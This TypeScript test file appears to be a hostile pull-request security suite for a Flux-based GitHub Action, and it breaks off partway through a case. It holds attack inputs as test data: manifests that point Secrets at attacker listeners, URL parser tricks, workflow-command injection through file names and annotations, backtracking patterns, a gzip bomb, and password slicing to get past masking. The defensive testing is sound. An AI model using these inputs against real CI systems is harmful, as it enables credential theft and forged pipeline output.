// The hostile-PR suite (issue 32; `npm run attack`): a pull request of the same repository, run
// through the bundled action in preview on a pull_request event against the test cluster, tries to
// send a credential where its tree points, to make the log issue workflow commands, or to exhaust
// the runner. Every case plants canaries in every credential source (cluster Secrets, inputs,
// environment) and looks for them at every loopback listener and in every output channel; each
// writes reports/attack/<case>.json, which scripts/attack-summary.mjs counts. A case fails when its
// attack got through. The positive controls prove the suite sees a send when one is legitimate.
//
// What the cases expect (the rule the action is to enforce): in a preview the tree is untrusted; a
// credential is used for a source only when the source's definition (url, endpoint, provider,
// secretRef, namespace) is the same as on the base commit and the Secret is in the source's own
// namespace; URLs with backslashes, user info or control characters are refused; loopback hosts are
// refused unless `allow-private-source-hosts: true` (set for every case but one, so the listeners
// can be reached); file:// is refused; no output line starts a workflow command.
import { execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdirSync, writeFileSync } from 'node:fs';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, it } from 'vitest';
import type { ClusterClient } from '../../src/cluster/client.js';
import { adminClient, freshNamespace, kubeconfigPath } from '../helpers/cluster.js';
import { bareRepository } from '../helpers/git-repos.js';
import { startFakeGitHub, type FakeGitHub } from '../helpers/github-server.js';
import { baseTree, cm, FROM_CHECKOUT, ks } from '../helpers/flux-trees.js';
import {
  attackCase,
  canaryList,
  inputCanaryList,
  cleanupRun,
  evidenceOf,
  findNamed,
  inputCanaries,
  krEntries,
  putSecret,
  runHostile,
  runnerView,
  secretCanaries,
  secretData,
  startListener,
  type Canary,
  type Files,
  type HostileRun,
  type InputCanaries,
  type Listener,
  type ListenerMode,
  type SecretCanaries,
  publishedChannels,
} from '../helpers/hostile.js';

const MiB = 1024 * 1024;

// ---- the tree every case starts from ------------------------------------------------------------

const gitRepo = (ns: string, name: string, url: string, extra = '') =>
  `apiVersion: source.toolkit.fluxcd.io/v1
kind: GitRepository
metadata: {name: ${name}, namespace: ${ns}}
spec:
  interval: 1m
  url: ${url}
  ref: {branch: main}
${extra}`;

const bucket = (ns: string, name: string, endpoint: string, extra = '') =>
  `apiVersion: source.toolkit.fluxcd.io/v1
kind: Bucket
metadata: {name: ${name}, namespace: ${ns}}
spec:
  interval: 1m
  bucketName: kr-bucket
  endpoint: "${endpoint}"
  insecure: true
${extra}`;

const ociRepo = (ns: string, name: string, url: string, extra = '') =>
  `apiVersion: source.toolkit.fluxcd.io/v1
kind: OCIRepository
metadata: {name: ${name}, namespace: ${ns}}
spec:
  interval: 1m
  url: ${url}
  insecure: true
${extra}`;

const generator = (ns: string, name: string, artifact: string, copy: string) =>
  `apiVersion: source.extensions.fluxcd.io/v1beta1
kind: ArtifactGenerator
metadata: {name: ${name}, namespace: ${ns}}
spec:
  sources:
    - {alias: repo, kind: GitRepository, name: flux-system, namespace: flux-system}
  artifacts:
    - name: ${artifact}
      copy:
${copy}`;

/** The base's ConfigMap as the cluster holds it after an apply of BASE. */
const liveSettings = (ns: string) => ({
  apiVersion: 'v1',
  kind: 'ConfigMap',
  metadata: { name: 'app-settings', namespace: ns, annotations: { note: 'old' } },
  data: { a: 'b', note: 'old', legacy: 'old' },
});

// ---- cases --------------------------------------------------------------------------------------

interface Ctx {
  ns: string;
  marker: string;
  L: Record<string, Listener>;
  /** kube-system/registry-admin. */
  K: SecretCanaries;
  /** kube-system/db-admin (username and password only: a substituteFrom source). */
  D: SecretCanaries;
  /** <ns>/registry-admin. */
  N: SecretCanaries;
  /** <ns>/git-auth, the Secret the BASE definitions use. */
  G: SecretCanaries;
  I: InputCanaries;
  /** Extra per-case values (a file:// repository's canary, a git server). */
  extra: Record<string, unknown>;
  canaries: Canary[];
}

interface Case {
  id: string;
  title: string;
  control?: boolean;
  listeners?: Record<string, ListenerMode>;
  /** Objects in the cluster before the run (the BASE as applied), so the PR's change is a diff. */
  live?: (ns: string) => Record<string, unknown>[];
  /** Runs before the workspace is made (a local repository, a git server); returns what to clean. */
  prepare?: (ctx: Ctx) => Promise<() => Promise<unknown>>;
  base?: (ctx: Ctx) => Files;
  head: (ctx: Ctx) => Files;
  inputs?: (ctx: Ctx) => Record<string, string>;
  /** The listeners' legitimate canaries. */
  allowed?: (ctx: Ctx) => Record<string, Canary[]>;
  /** Uses the marker: commands carrying it are injected. */
  marker?: boolean;
  mode?: 'preview' | 'plan';
  timeoutMs?: number;
  during?: Parameters<typeof runHostile>[0]['during'];
  /** The case's own findings (the attack got through when any), beside the common checks. */
  judge?: (run: HostileRun, ctx: Ctx) => Promise<string[]> | string[];
}

const challenge: ListenerMode = { kind: 'challenge' };
const s3: ListenerMode = { kind: 's3' };
const KSYS = 'kube-system';

/** A listener's records as one text (for a control: did the credential arrive). */
const sentTo = (l: Listener) =>
  l.records.map((r) => [r.method, r.url, ...r.headers.map(([k, v]) => `${k}: ${v}`)].join('\n')).join('\n');
const basic = (u: string, p: string) => `Basic ${Buffer.from(`${u}:${p}`).toString('base64')}`;

const killed = (run: HostileRun) =>
  run.timedOut === true ? [`the run did not end by itself: killed after ${Math.round(run.ms / 1000)} s`] : [];

/** Each git URL trick of case 2 (the host check must see the host git connects to). */
const GIT_TRICKS = {
  'backslash-userinfo': (h: string) => `'http://github.com\\@${h}/org/repo'`,
  userinfo: (h: string) => `'http://github.com@${h}/org/repo'`,
  'query-at': (h: string) => `'http://${h}/org/repo?x=@github.com'`,
};

/** A gzipped tarball holding one file of zeros of `size` (truncate's units), as ctx.extra.tarball. */
async function zeroTarball(ctx: { extra: Record<string, unknown> }, size: string): Promise<() => Promise<void>> {
  const dir = await mkdtemp(join(tmpdir(), 'atk-tar-'));
  execFileSync('truncate', ['-s', size, join(dir, 'zero')]);
  execFileSync('tar', ['-czf', join(dir, 'z.tar.gz'), '-C', dir, 'zero']);
  ctx.extra['tarball'] = await readFile(join(dir, 'z.tar.gz'));
  return () => rm(dir, { recursive: true, force: true });
}

const CASES: Case[] = [
  // -- 1: a Secret the tree names, sent where the tree points --------------------------------------
  {
    id: '1a-git-secretref-kube-system',
    title: 'a GitRepository the PR adds in kube-system, secretRef registry-admin, url at a listener',
    listeners: { L: challenge },
    head: ({ ns, L }) => ({
      'clusters/prod/evil.yaml':
        gitRepo(KSYS, 'evil', `http://${L['L']!.host}/any.git`, '  secretRef: {name: registry-admin}\n') +
        '---\n' +
        ks(ns, 'evil', './', `{kind: GitRepository, name: evil, namespace: ${KSYS}}`),
    }),
  },
  {
    id: '1b-bucket-secretref-kube-system',
    title: 'a Bucket the PR adds in kube-system (generic, insecure), secretRef registry-admin',
    listeners: { L: s3 },
    head: ({ ns, L }) => ({
      'clusters/prod/evil.yaml':
        bucket(KSYS, 'evil', L['L']!.host, '  provider: generic\n  secretRef: {name: registry-admin}\n') +
        '---\n' +
        ks(ns, 'evil', './', `{kind: Bucket, name: evil, namespace: ${KSYS}}`),
    }),
  },
  {
    id: '1c-oci-secretref-kube-system',
    title: 'an OCIRepository the PR adds in kube-system (insecure), secretRef to a dockerconfigjson Secret',
    listeners: { L: challenge },
    head: ({ ns, L }) => ({
      'clusters/prod/evil.yaml':
        ociRepo(KSYS, 'evil', `oci://${L['L']!.host}/x`, '  secretRef: {name: registry-admin}\n') +
        '---\n' +
        ks(ns, 'evil', './', `{kind: OCIRepository, name: evil, namespace: ${KSYS}}`),
    }),
  },
  {
    id: '1d-git-url-changed',
    title: "a GitRepository on BASE (listener L1, its own namespace's Secret) whose url the PR moves to L2",
    listeners: { L1: challenge, L2: challenge },
    base: ({ ns, L }) => ({
      'clusters/prod/tenant.yaml':
        gitRepo(ns, 'tenant', `http://${L['L1']!.host}/org/tenant.git`, '  secretRef: {name: git-auth}\n') +
        '---\n' +
        ks(ns, 'tenant', './', '{kind: GitRepository, name: tenant}'),
    }),
    head: ({ ns, L }) => ({
      'clusters/prod/tenant.yaml':
        gitRepo(ns, 'tenant', `http://${L['L2']!.host}/org/tenant.git`, '  secretRef: {name: git-auth}\n') +
        '---\n' +
        ks(ns, 'tenant', './', '{kind: GitRepository, name: tenant}'),
    }),
    allowed: ({ G }) => ({ L1: canaryList(G) }),
  },
  {
    id: '1e-git-secretref-changed',
    title: 'the PR changes only the secretRef of a BASE GitRepository (git-auth → registry-admin)',
    listeners: { L1: challenge },
    base: ({ ns, L }) => ({
      'clusters/prod/tenant.yaml':
        gitRepo(ns, 'tenant', `http://${L['L1']!.host}/org/tenant.git`, '  secretRef: {name: git-auth}\n') +
        '---\n' +
        ks(ns, 'tenant', './', '{kind: GitRepository, name: tenant}'),
    }),
    head: ({ ns, L }) => ({
      'clusters/prod/tenant.yaml':
        gitRepo(ns, 'tenant', `http://${L['L1']!.host}/org/tenant.git`, '  secretRef: {name: registry-admin}\n') +
        '---\n' +
        ks(ns, 'tenant', './', '{kind: GitRepository, name: tenant}'),
    }),
  },
  {
    id: '1f-git-new-own-namespace',
    title: "a GitRepository the PR adds in the Secret's own namespace (secretRef git-auth): not on BASE",
    listeners: { L: challenge },
    head: ({ ns, L }) => ({
      'clusters/prod/new.yaml':
        gitRepo(ns, 'newrepo', `http://${L['L']!.host}/org/new.git`, '  secretRef: {name: git-auth}\n') +
        '---\n' +
        ks(ns, 'newrepo', './', '{kind: GitRepository, name: newrepo}'),
    }),
  },
  {
    id: '1g-git-shadow-definition',
    title:
      'the PR adds a second definition of a BASE GitRepository beside a new Kustomization (the nearest one wins), at L2',
    listeners: { L1: challenge, L2: challenge },
    base: ({ ns, L }) => ({
      'clusters/prod/tenant.yaml':
        gitRepo(ns, 'tenant', `http://${L['L1']!.host}/org/tenant.git`, '  secretRef: {name: git-auth}\n') +
        '---\n' +
        ks(ns, 'tenant', './', '{kind: GitRepository, name: tenant}'),
    }),
    head: ({ ns, L }) => ({
      'clusters/prod/team/source.yaml': gitRepo(
        ns,
        'tenant',
        `http://${L['L2']!.host}/org/tenant.git`,
        '  secretRef: {name: git-auth}\n',
      ),
      'clusters/prod/team/ks.yaml': ks(ns, 'shadow', './', '{kind: GitRepository, name: tenant}'),
    }),
    inputs: () => ({ kustomizations: 'clusters/prod/*.yaml\nclusters/prod/team/*.yaml' }),
    allowed: ({ G }) => ({ L1: canaryList(G) }),
  },

  {
    id: '1h-oci-insecure-flipped',
    title:
      "a BASE OCIRepository (https, its own namespace's dockerconfigjson) that the PR flips to spec.insecure: true (the login over plain HTTP)",
    listeners: { L1: challenge },
    base: ({ ns, L }) => ({
      'clusters/prod/tenant.yaml':
        ociRepo(ns, 'tenant', `oci://${L['L1']!.host}/x`, '  secretRef: {name: git-auth}\n').replace(
          '  insecure: true\n',
          '',
        ) +
        '---\n' +
        ks(ns, 'tenant', './', '{kind: OCIRepository, name: tenant}'),
    }),
    head: ({ ns, L }) => ({
      'clusters/prod/tenant.yaml':
        ociRepo(ns, 'tenant', `oci://${L['L1']!.host}/x`, '  secretRef: {name: git-auth}\n') +
        '---\n' +
        ks(ns, 'tenant', './', '{kind: OCIRepository, name: tenant}'),
    }),
  },
  {
    id: '1i-bucket-insecure-flipped',
    title:
      "a BASE Bucket (https, its own namespace's Secret) that the PR flips to spec.insecure: true (signed requests over plain HTTP)",
    listeners: { L1: s3 },
    base: ({ ns, L }) => ({
      'clusters/prod/tenant.yaml':
        bucket(
          ns,
          'tenant',
          L['L1']!.host,
          '  provider: generic\n  region: us-east-1\n  secretRef: {name: git-auth}\n',
        ).replace('  insecure: true\n', '') +
        '---\n' +
        ks(ns, 'tenant', './', '{kind: Bucket, name: tenant}'),
    }),
    head: ({ ns, L }) => ({
      'clusters/prod/tenant.yaml':
        bucket(
          ns,
          'tenant',
          L['L1']!.host,
          '  provider: generic\n  region: us-east-1\n  secretRef: {name: git-auth}\n',
        ) +
        '---\n' +
        ks(ns, 'tenant', './', '{kind: Bucket, name: tenant}'),
    }),
  },

  // -- 2: a token of the inputs, sent to another host --------------------------------------------
  ...Object.entries(GIT_TRICKS).map(([trick, url], i): Case => ({
    id: i === 0 ? '2a-git-credentials-backslash' : `2b-git-credentials-${trick}`,
    title: `git-credentials for github.com, a GitRepository url ${url('127.0.0.1:PORT')}`,
    listeners: { L: challenge },
    head: ({ ns, L }) => ({
      'clusters/prod/evil.yaml':
        gitRepo(ns, 'evil', url(L['L']!.host)) + '---\n' + ks(ns, 'evil', './', '{kind: GitRepository, name: evil}'),
    }),
  })),
  {
    id: '2c-registry-credentials-ghcr-tricks',
    title: 'registry-credentials and github-token for ghcr.io, OCIRepository urls trying the same tricks',
    listeners: { L1: challenge, L2: challenge, L3: challenge, L4: challenge },
    head: ({ ns, L }) => {
      const urls = [
        `'oci://ghcr.io\\@${L['L1']!.host}/x'`,
        `'oci://ghcr.io@${L['L2']!.host}/x'`,
        `'oci://${L['L3']!.host}/x?x=@ghcr.io'`,
        `'oci://${L['L4']!.host}\\ghcr.io/x'`,
      ];
      return Object.fromEntries(
        urls.map((u, i) => [
          `clusters/prod/evil-${i}.yaml`,
          ociRepo(ns, `evil${i}`, u) + '---\n' + ks(ns, `evil${i}`, './', `{kind: OCIRepository, name: evil${i}}`),
        ]),
      );
    },
  },

  // -- 3: tree (and server) text that becomes a workflow command ----------------------------------
  {
    id: '3a-path-stop-commands',
    title: 'a Kustomization path "./leak\\n::stop-commands::MARKER" (the directory exists)',
    marker: true,
    head: ({ ns, marker }) => ({
      'clusters/prod/leak.yaml': ks(ns, 'leak', `"./leak\\n::stop-commands::${marker}"`),
      [`leak\n::stop-commands::${marker}/cm.yaml`]: cm(ns, 'leak'),
    }),
  },
  {
    id: '3a-path-carriage-return',
    title: 'a Kustomization path "./cr\\r::error::MARKER" (a lone CR ends a line for the runner; the directory exists)',
    marker: true,
    head: ({ ns, marker }) => ({
      'clusters/prod/cr.yaml': ks(ns, 'cr', `"./cr\\r::error::${marker}"`),
      [`cr\r::error::${marker}/cm.yaml`]: cm(ns, 'cr'),
    }),
  },
  {
    id: '3b-plan-file-name-annotation',
    title: 'mode plan: a Kustomization file named "a\\n::error file=SECURITY.md,line=1,title=Approved::MARKER\\n.yaml"',
    marker: true,
    mode: 'plan',
    head: ({ ns, marker }) => ({
      [`clusters/prod/a\n::error file=SECURITY.md,line=1,title=Approved::${marker}\n.yaml`]: ks(
        ns,
        'forged',
        './apps/app',
      ),
      'apps/app/cm.yaml': cm(ns, 'app-settings', 'a: changed'),
    }),
  },
  {
    id: '3c-configmap-data',
    title:
      'a ConfigMap data value with "\\n::warning::MARKER" lines and "##[add-mask]MARKER" fragments (a diff of a live object)',
    marker: true,
    live: (ns) => [liveSettings(ns)],
    head: ({ ns, marker }) => ({
      'apps/app/cm.yaml': `apiVersion: v1
kind: ConfigMap
metadata: {name: app-settings, namespace: ${ns}}
data:
  a: b
  note: "first\\n::warning::${marker}\\nsecond ##[add-mask]${marker}\\n  ::error file=SECURITY.md,line=1::${marker}\\n"
  legacy: "x ##[warning]${marker}"
`,
    }),
  },
  {
    id: '3c-annotation',
    title:
      'an annotation value with a "\\n::error::MARKER" line and a "##[warning]MARKER" fragment (a diff of a live object)',
    marker: true,
    live: (ns) => [liveSettings(ns)],
    head: ({ ns, marker }) => ({
      'apps/app/cm.yaml': `apiVersion: v1
kind: ConfigMap
metadata:
  name: app-settings
  namespace: ${ns}
  annotations:
    note: "x\\n::error::${marker}\\ny ##[warning]${marker}"
data: {a: b}
`,
    }),
  },
  {
    id: '3c-kustomization-name',
    title: 'a Kustomization metadata.name with a newline and "::warning::MARKER"',
    marker: true,
    head: ({ ns, marker }) => ({
      'clusters/prod/named.yaml': ks(ns, `"named\\n::warning::${marker}"`, './apps/app'),
    }),
  },
  {
    id: '3c-kustomization-namespace',
    title: 'a Kustomization metadata.namespace with a newline and "::warning::MARKER"',
    marker: true,
    head: ({ marker }) => ({
      'clusters/prod/spaced.yaml': ks(`"spaced\\n::warning::${marker}"`, 'spaced', './apps/app'),
    }),
  },
  {
    id: '3c-sourceref-name',
    title: 'a Kustomization sourceRef name with a newline and "::error::MARKER"',
    marker: true,
    head: ({ ns, marker }) => ({
      'clusters/prod/ref.yaml': ks(ns, 'ref', './apps/app', `{kind: GitRepository, name: "repo\\n::error::${marker}"}`),
    }),
  },
  {
    id: '3c-build-error',
    title:
      'a kustomization.yaml that fails to build (kustomize\'s error) on a resource named "missing\\n::error::MARKER.yaml"',
    marker: true,
    head: ({ ns, marker }) => ({
      'clusters/prod/bad.yaml': ks(ns, 'bad', './apps/bad'),
      'apps/bad/kustomization.yaml': `resources:\n  - cm.yaml\n  - "missing\\n::error::${marker}\\n##[warning]${marker}.yaml"\n`,
      'apps/bad/cm.yaml': cm(ns, 'bad'),
    }),
  },
  {
    id: '3c-yaml-error-file-name',
    title: 'a plain directory holding invalid YAML in a file named "cm\\n##[warning]MARKER.yaml"',
    marker: true,
    head: ({ ns, marker }) => ({
      'clusters/prod/bad.yaml': ks(ns, 'bad', './apps/bad'),
      [`apps/bad/cm\n##[warning]${marker}\n::error::${marker}.yaml`]: 'not: [valid\n',
    }),
  },
  {
    id: '3g-nel-before-command',
    title:
      'file and resource names with "\\n" then U+0085 (NEL: white space to the runner\'s TrimStart, not to JavaScript\'s \\s) then "::error::MARKER"',
    marker: true,
    head: ({ ns, marker }) => ({
      'clusters/prod/bad.yaml': ks(ns, 'bad', './apps/bad'),
      'apps/bad/kustomization.yaml': `resources:\n  - cm.yaml\n  - "missing\\n\\u0085::error::${marker}.yaml"\n`,
      'apps/bad/cm.yaml': cm(ns, 'bad'),
      'clusters/prod/plain.yaml': ks(ns, 'plain', './apps/plain'),
      [`apps/plain/cm\n\u0085::warning::${marker}.yaml`]: 'not: [valid\n',
    }),
  },
  {
    id: '3d-source-url-newline',
    title: 'a GitRepository url with a newline and "::warning::MARKER" (printed when fetched or refused)',
    marker: true,
    listeners: { L: challenge },
    head: ({ ns, L, marker }) => ({
      'clusters/prod/url.yaml':
        gitRepo(ns, 'nl', `"http://${L['L']!.host}/x\\n::warning::${marker}\\n##[error]${marker}"`) +
        '---\n' +
        ks(ns, 'nl', './', '{kind: GitRepository, name: nl}'),
    }),
  },
  {
    id: '3e-s3-error-message',
    title: 'a Bucket endpoint whose S3 error Message holds "\\n::error::MARKER" (server text reaches the log)',
    marker: true,
    listeners: {
      L: { kind: 's3', message: 'denied\n::error::MARKER-PLACEHOLDER\nthen ##[add-mask]MARKER-PLACEHOLDER' },
    },
    head: ({ ns, L }) => ({
      'clusters/prod/b.yaml':
        bucket(ns, 'srv', L['L']!.host, '  provider: generic\n  region: us-east-1\n') +
        '---\n' +
        ks(ns, 'srv', './', '{kind: Bucket, name: srv}'),
    }),
  },
  {
    id: '3f-registry-error-message',
    title: 'an OCI registry whose error message holds "\\n::error::MARKER"',
    marker: true,
    listeners: {
      L: { kind: 'oci-error', message: 'nope\n::error::MARKER-PLACEHOLDER\n##[warning]MARKER-PLACEHOLDER' },
    },
    head: ({ ns, L }) => ({
      'clusters/prod/o.yaml':
        ociRepo(ns, 'srv', `oci://${L['L']!.host}/x`) +
        '---\n' +
        ks(ns, 'srv', './', '{kind: OCIRepository, name: srv}'),
    }),
  },

  // -- 4: the runner's AWS credentials, to any endpoint --------------------------------------------
  {
    id: '4-bucket-aws-env-credentials',
    title: 'a Bucket provider aws, endpoint at a listener, insecure, no secretRef (AWS_* canaries in the env)',
    listeners: { L: s3 },
    head: ({ ns, L }) => ({
      'clusters/prod/aws.yaml':
        bucket(ns, 'aws', L['L']!.host, '  provider: aws\n') +
        '---\n' +
        ks(ns, 'aws', './', '{kind: Bucket, name: aws}'),
    }),
  },

  // -- 5: patterns that backtrack --------------------------------------------------------------------
  {
    id: '5a-generator-exclude-backtracking',
    title: "an ArtifactGenerator exclude '*a*a…*a*b' (24 a) over a file named with 200 'a'",
    head: ({ ns }) => ({
      [`files/${'a'.repeat(200)}`]: 'x\n',
      'files/cm.yaml': cm(ns, 'generated'),
      'clusters/prod/gen.yaml':
        generator(
          ns,
          'gen',
          'made',
          `        - from: '@repo/files/**'\n          to: '@artifact/'\n          exclude: ['${'*a'.repeat(24)}*b']\n`,
        ) +
        '---\n' +
        ks(ns, 'made', './', '{kind: ExternalArtifact, name: made}'),
    }),
    judge: (run) => killed(run),
  },
  {
    id: '5b-oci-semverfilter-backtracking',
    title: "an OCIRepository spec.ref.semverFilter '^(a+)+$' and a registry listing a tag of 40 'a' and '!'",
    listeners: { L: { kind: 'oci-tags', tags: ['1.0.0', `${'a'.repeat(40)}!`] } },
    head: ({ ns, L }) => ({
      'clusters/prod/o.yaml':
        ociRepo(ns, 'semver', `oci://${L['L']!.host}/x`, "  ref: {semver: '>=0.0.0', semverFilter: '^(a+)+$'}\n") +
        '---\n' +
        ks(ns, 'semver', './', '{kind: OCIRepository, name: semver}'),
    }),
    judge: (run) => killed(run),
  },
  {
    id: '5c-sourceignore-backtracking',
    title: "a .sourceignore line '*a*a…*a*b' and a file named with 200 'a' in the checkout",
    head: () => ({
      '.sourceignore': `${'*a'.repeat(24)}*b\n`,
      [`apps/app/${'a'.repeat(200)}`]: 'x\n',
    }),
    judge: (run) => killed(run),
  },

  // -- 6: extraction without a run-wide budget ---------------------------------------------------
  {
    id: '6-extract-budget',
    title: 'an ArtifactGenerator extracting one small tarball (a 200 MiB zero file) four times',
    prepare: (ctx) => zeroTarball(ctx, '200M'),
    head: ({ ns, extra }) => ({
      // A root .sourceignore replaces Flux's default exclusions, which leave *.tar.gz out.
      '.sourceignore': '/not-here/\n',
      'blob/z.tar.gz': extra['tarball'] as Buffer,
      'clusters/prod/gen.yaml':
        generator(
          ns,
          'unpack',
          'unpacked',
          [1, 2, 3, 4]
            .map((n) => `        - {from: '@repo/blob/z.tar.gz', to: '@artifact/x${n}/', strategy: Extract}\n`)
            .join(''),
        ) +
        '---\n' +
        ks(ns, 'unpacked', './', '{kind: ExternalArtifact, name: unpacked}'),
    }),
    judge: (run) => {
      const out: string[] = [...killed(run)];
      if (run.peakScratch > 300e6) {
        out.push(`scratch space reached ${Math.round(run.peakScratch / MiB)} MiB (RUNNER_TEMP + TMPDIR)`);
      }
      const said = `${run.stdout}\n${run.summary}`;
      if (run.code === 0 || !/extract|budget|limit|too (large|big|much)|exceed/i.test(said)) {
        out.push(`the run did not refuse the extraction (exit ${run.code})`);
      }
      return out;
    },
  },

  {
    id: '6b-extract-gzip-bomb',
    title: 'an ArtifactGenerator extracting a ~1 MiB tarball that holds a 1 GiB zero file, once',
    prepare: (ctx) => zeroTarball(ctx, '1G'),
    head: ({ ns, extra }) => ({
      '.sourceignore': '/not-here/\n',
      'blob/z.tar.gz': extra['tarball'] as Buffer,
      'clusters/prod/gen.yaml':
        generator(
          ns,
          'unpack',
          'unpacked',
          "        - {from: '@repo/blob/z.tar.gz', to: '@artifact/x/', strategy: Extract}\n",
        ) +
        '---\n' +
        ks(ns, 'unpacked', './', '{kind: ExternalArtifact, name: unpacked}'),
    }),
    judge: (run) => {
      const out: string[] = [...killed(run)];
      if (run.peakRss > 768 * MiB)
        out.push(`the action's peak memory (VmHWM) was ${Math.round(run.peakRss / MiB)} MiB`);
      if (run.peakScratch > 300e6) {
        out.push(`scratch space reached ${Math.round(run.peakScratch / MiB)} MiB (RUNNER_TEMP + TMPDIR)`);
      }
      if (run.code === 0) out.push('the run did not refuse the extraction');
      return out;
    },
  },

  // -- 7: the runner's disk and memory ------------------------------------------------------------
  {
    id: '7a-file-url',
    title: 'a GitRepository with a file:// url of a repository on the runner (holding a canary ConfigMap)',
    prepare: async (ctx) => {
      const value = `krfilecanary${randomBytes(8).toString('hex')}`;
      const name = `file-canary-${randomBytes(4).toString('hex')}`;
      const repo = await bareRepository({ main: { 'deploy/cm.yaml': cm(ctx.ns, name, `v: ${value}`) } });
      ctx.extra['url'] = repo.fileUrl;
      ctx.extra['name'] = name;
      ctx.canaries.push(
        { where: 'the file:// repository (a ConfigMap it holds)', value },
        {
          where: 'the file:// repository (the name of a ConfigMap it holds)',
          value: name,
        },
      );
      return () => rm(fileURLToPath(repo.fileUrl), { recursive: true, force: true });
    },
    head: ({ ns, extra }) => ({
      'clusters/prod/local.yaml':
        gitRepo(ns, 'local', String(extra['url'])) +
        '---\n' +
        ks(ns, 'local', './deploy', '{kind: GitRepository, name: local}'),
    }),
    judge: (run) => {
      const said = `${run.stdout}\n${run.summary}`.split('\n');
      const refused = said.some(
        (l) => /file:/.test(l) && /refus|not (allowed|permitted|supported|fetched)|forbidden|denied/i.test(l),
      );
      return refused ? [] : ['the run does not say the file:// source is refused'];
    },
  },
  {
    id: '7b-scratch-left-behind',
    title: 'after a run that fetched a git source and made an artifact, no kr-* entry in TMPDIR or RUNNER_TEMP',
    prepare: async (ctx) => {
      const marker = `tree-marker-${randomBytes(4).toString('hex')}`;
      const repo = await bareRepository({ main: { [`deploy/${marker}.yaml`]: cm(ctx.ns, 'fetched') } });
      ctx.extra['url'] = repo.url;
      ctx.extra['marker'] = marker;
      return () => rm(fileURLToPath(repo.fileUrl), { recursive: true, force: true });
    },
    head: ({ ns, extra }) => ({
      'clusters/prod/remote.yaml':
        gitRepo(ns, 'remote', String(extra['url'])) +
        '---\n' +
        ks(ns, 'remote', './deploy', '{kind: GitRepository, name: remote}'),
      'files/cm.yaml': cm(ns, 'generated'),
      'clusters/prod/gen.yaml':
        generator(ns, 'gen', 'made', `        - from: '@repo/files/**'\n          to: '@artifact/'\n`) +
        '---\n' +
        ks(ns, 'made', './', '{kind: ExternalArtifact, name: made}'),
    }),
    judge: async (run, { extra }) => {
      const out: string[] = [];
      for (const [what, dir] of [
        ['TMPDIR', run.tmp],
        ['RUNNER_TEMP', run.runnerTemp],
      ] as const) {
        const left = await krEntries(dir);
        if (left.length > 0) out.push(`${what} still holds ${left.join(', ')}`);
        const trees = await findNamed(dir, String(extra['marker']));
        if (trees.length > 0) out.push(`${what} still holds the fetched tree (${trees[0]})`);
      }
      if (!run.stdout.includes('fetched')) out.push('(note: the fetched ConfigMap is not in the log)');
      return out.filter((o) => !o.startsWith('(note'));
    },
  },
  {
    id: '7b-cancelled-run-left-behind',
    title: 'a run cancelled (SIGINT, then SIGTERM) while it holds a fetched tree leaves nothing in TMPDIR',
    listeners: { STALL: { kind: 'stall' } },
    prepare: async (ctx) => {
      const marker = `tree-marker-${randomBytes(4).toString('hex')}`;
      const repo = await bareRepository({ main: { [`deploy/${marker}.yaml`]: cm(ctx.ns, 'fetched') } });
      ctx.extra['url'] = repo.url;
      ctx.extra['marker'] = marker;
      return () => rm(fileURLToPath(repo.fileUrl), { recursive: true, force: true });
    },
    head: ({ ns, extra, L }) => ({
      'clusters/prod/remote.yaml':
        gitRepo(ns, 'remote', String(extra['url'])) +
        '---\n' +
        ks(ns, 'remote', './deploy', '{kind: GitRepository, name: remote}'),
      'clusters/prod/slow.yaml':
        ociRepo(ns, 'slow', `oci://${L['STALL']!.host}/x`) +
        '---\n' +
        ks(ns, 'slow', './', '{kind: OCIRepository, name: slow}'),
    }),
    judge: async (run, { extra }) => {
      const out: string[] = [];
      if (extra['cancelled'] !== true) out.push('(the run ended before it could be cancelled)');
      const left = await krEntries(run.tmp);
      if (left.length > 0) out.push(`TMPDIR still holds ${left.join(', ')} after the cancelled run`);
      const trees = await findNamed(run.tmp, String(extra['marker']));
      if (trees.length > 0) out.push(`TMPDIR still holds the fetched tree (${trees[0]})`);
      return out;
    },
  },
  {
    id: '7c-s3-endless-list',
    title: 'a Bucket whose ListObjectsV2 answer never ends',
    listeners: { L: { kind: 's3-endless' } },
    head: ({ ns, L }) => ({
      'clusters/prod/b.yaml':
        bucket(ns, 'endless', L['L']!.host, '  provider: generic\n  region: us-east-1\n') +
        '---\n' +
        ks(ns, 'endless', './', '{kind: Bucket, name: endless}'),
    }),
    judge: (run, { L }) => {
      const out = killed(run);
      if (run.peakRss > 512 * MiB)
        out.push(`the action's peak memory (VmHWM) was ${Math.round(run.peakRss / MiB)} MiB`);
      const sent = L['L']!.sent;
      if (sent > 128 * MiB)
        out.push(`the action read ${Math.round(sent / MiB)} MiB of one list answer before it stopped`);
      if (run.code === 0) out.push('the run did not fail');
      return out;
    },
  },

  // -- 8: found on the way ----------------------------------------------------------------------
  ...(
    [
      [
        '8a-substitute-slice-in-name',
        'the name of a ConfigMap',
        'metadata: {name: "leak-${password:0:22}", namespace: NS}\ndata: {a: b}',
      ],
      [
        '8b-substitute-slice-in-key',
        'a data key',
        'metadata: {name: leak, namespace: NS}\ndata: {"k-${password:0:22}": b}',
      ],
      [
        '8c-substitute-slice-in-value',
        'a data value (and the user name upper-cased)',
        'metadata: {name: leak, namespace: NS}\ndata: {a: "${password:0:22}", b: "${username^^}"}',
      ],
    ] as const
  ).map(([id, where, object]): Case => ({
    id,
    title: `a Kustomization the PR adds in kube-system, postBuild.substituteFrom kube-system/db-admin: a slice of its password in ${where}`,
    head: ({ ns }) => ({
      'clusters/prod/subst.yaml': ks(
        KSYS,
        `subst-${ns}`,
        './apps/subst',
        FROM_CHECKOUT,
        '  postBuild:\n    substituteFrom: [{kind: Secret, name: db-admin}]\n',
      ),
      'apps/subst/cm.yaml': `apiVersion: v1\nkind: ConfigMap\n${object.replace('NS', ns)}\n`,
    }),
    judge: (run, { D }) => {
      const slice = D.password.value.slice(0, 22);
      const user = D.username.value.toUpperCase();
      const out: string[] = [];
      for (const [what, text] of publishedChannels(run)) {
        if (text.includes(slice))
          out.push(`the first 22 characters of kube-system/db-admin's password are in ${what} (${slice})`);
        if (text.includes(user)) out.push(`kube-system/db-admin's username, upper-cased, is in ${what}`);
      }
      return out;
    },
  })),

  {
    id: '8d-substitute-short-slices',
    title:
      'a Kustomization the PR adds in kube-system, substituteFrom kube-system/db-admin: its password 3 characters at a time (shorter than any mask) in ConfigMap names',
